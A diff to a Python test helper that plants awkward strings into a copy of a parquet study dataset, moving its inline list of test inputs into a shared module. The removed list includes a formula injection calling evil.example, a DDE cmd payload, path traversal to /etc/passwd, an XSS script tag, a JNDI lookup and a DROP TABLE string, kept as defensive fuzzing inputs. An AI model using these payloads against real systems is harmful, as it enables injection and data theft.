@@ -8,54 +8,14 @@ from typing import Any
 import pyarrow as pa
 import pyarrow.parquet as pq
 
+from tests.reports.hostile import HOSTILE
+
 #: Texts that a format, a spreadsheet or a path could stumble over.
-TEXTS = [
-    '=HYPERLINK("http://evil.example","点我")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)",
-    "＝１＋１",
-    "＋加号",
-    "－减号",
-    "＠某人",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\x00=1+1",
-    "a\x00b\x01c\x1fd\x7fe",
-    "'=1+1",
-    "''@x",
-    "'",
-    "NA",
-    "'NA",
-    "NULL",
-    "",
-    " ",
-    "-12.5",
-    "0012",
-    "第一行\n第二行\r\n第三行\r",
-    'quo"te, "comma", ;semicolon',
-    "back\\slash \\N \\e | pipe \\|",
-    "_x0041_ _x005F_ _x000D_",
-    "../../../etc/passwd",
-    "..\\..\\windows\\system.ini",
-    "/etc/shadow",
-    "C:\\x.csv",
-    "</script><script>alert(1)</script>",
-    "{{ 7*7 }} ${jndi:ldap://evil.example}",
-    "\u202e反转\u202c\u200b零宽\ufeff",
-    "\ufffe\uffff末尾",
-    "😀👨‍👩‍👧 𠮷野家 𫞩",
-    "1e5",
-    "=",
-    "苏州市 Suzhou, ‘引号’",
-    "DROP TABLE documents; --",
-    "$2E$ @ _Z _T *&",
-]
+TEXTS = [text for _, text in HOSTILE.values()]
 LISTS: list[Any] = [[], [""], ["a|b", "c\\d", "\\e"], ["=1+1"], ["NA"], ["", "x", ""], ["甲", "乙"]]
 
 
-def hostile_study(out: Path, study: Path) -> Path:
+def write_nasty(out: Path, study: Path) -> Path:
     """A copy of ``study`` with ``TEXTS`` in its titles, addresses, names, ids, cities and lists."""
     shutil.copytree(study, out)
     _change(out / "documents" / "00000.parquet", _documents)
